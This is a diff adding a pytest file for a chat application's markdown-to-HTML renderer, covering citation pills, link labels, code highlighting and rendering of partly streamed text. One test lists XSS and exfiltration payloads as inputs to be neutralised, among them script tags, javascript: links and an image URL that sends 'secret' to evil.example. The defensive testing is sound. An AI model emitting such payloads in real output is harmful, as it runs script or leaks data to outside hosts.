@@ -1,0 +1,126 @@
+"""Answers as HTML: what is shown, what is kept out, and how they grow."""
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from chat.web.markdown import open_block, render, render_document
+from chat.web.sources import Source
+
+SOURCES = {
+    1: Source(1, "dfl-a", "reports/annual report.pdf", 3, "Money", "/one"),
+    2: Source(2, "dfl-a", "reports/annual report.pdf", 7, "Money", "/two"),
+    3: Source(3, "dfl-b", "rules.md", None, "Opening hours", "/three"),
+}
+ANSWER = """Take **two** steps [1].
+
+## Before
+
+- one
+- two [3]
+
+| a | b |
+|--:|---|
+| 1 | 2 |
+
+```python
+x = 1
+```
+
+The end.
+"""
+
+
+def shown(text: str, whole: bool = True) -> str:
+    return render(text, SOURCES, "turn-1", whole)
+
+
+def test_a_known_number_becomes_a_pill_with_the_name_of_its_source():
+    html = shown("Costs fell [1].")
+
+    assert '<a class="citation" href="/one" data-number="1"' in html
+    assert ">annual report p. 3</a>" in html
+
+
+def test_a_second_place_of_the_same_file_is_named_by_its_place():
+    html = shown("Costs fell [1][2] and [1, 2].")
+
+    assert html.count(">annual report p. 3</a>") == 2
+    assert html.count(">p. 7</a>") == 2
+
+
+@pytest.mark.parametrize("text", ["See [9].", "`[1]`", "    [1]", "[1](https://example.org/)"])
+def test_what_is_no_citation_gets_no_pill(text):
+    assert 'class="citation"' not in shown(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "[x](javascript:alert(1))",
+        "[x](data:text/html;base64,PHNjcmlwdD4=)",
+        "![x](https://evil.example/?q=secret)",
+        "[x](/admin/logout/)",
+        '[x](https://example.org/ "onmouseover=alert(1)")',
+        "<a href='https://example.org' hx-get='/'>x</a>",
+        "```html\n<script>alert(1)</script>\n```",
+    ],
+)
+def test_nothing_in_an_answer_runs_loads_or_acts(text):
+    html = shown(text)
+
+    for forbidden in ("<script", "<img", "<a href='", 'href="javascript:', 'href="data:', 'href="/'):
+        assert forbidden not in html
+
+
+def test_a_link_says_where_it_leads():
+    html = shown("[the site](https://www.example.org/a)")
+
+    assert 'rel="noopener noreferrer nofollow"' in html
+    assert '<span class="link-host">example.org</span>' in html
+
+
+def test_a_link_that_is_its_own_address_says_it_once():
+    assert "link-host" not in shown("https://example.org/a")
+
+
+def test_code_is_coloured_when_it_is_whole():
+    text = "```python\ndef f(): ...\n```"
+
+    assert 'class="hl-k"' in shown(text)
+    assert 'class="hl-k"' not in shown(text, whole=False)
+
+
+@pytest.mark.parametrize(
+    ("text", "html"),
+    [
+        ("It is **bo", "<p>It is <strong>bo</strong></p>\n"),
+        ("It is **", "<p>It is</p>\n"),
+        ("Run `make", "<p>Run <code>make</code></p>\n"),
+        ("Costs fell [1", "<p>Costs fell</p>\n"),
+    ],
+)
+def test_text_cut_in_mid_word_shows_no_bare_signs(text, html):
+    assert shown(text, whole=False) == html
+
+
+@given(st.integers(0, len(ANSWER)))
+def test_finished_blocks_and_the_open_one_are_the_whole(cut):
+    begun = ANSWER[:cut]
+    edge = open_block(begun)
+
+    assert shown(begun[:edge]) + shown(begun[edge:]) == shown(begun)
+
+
+def test_the_cited_blocks_of_a_document_are_marked_and_the_first_is_named():
+    text = "# T\n\nbefore\n\n- one\n- two\n\nafter"
+    start = text.index("- one")
+
+    html = render_document(text, start, start + len("- one\n- two"))
+
+    assert '<li class="cited" id="passage">one</li>' in html
+    assert '<li class="cited">two</li>' in html
+    assert "<p>before</p>" in html
+    assert "<p>after</p>" in html
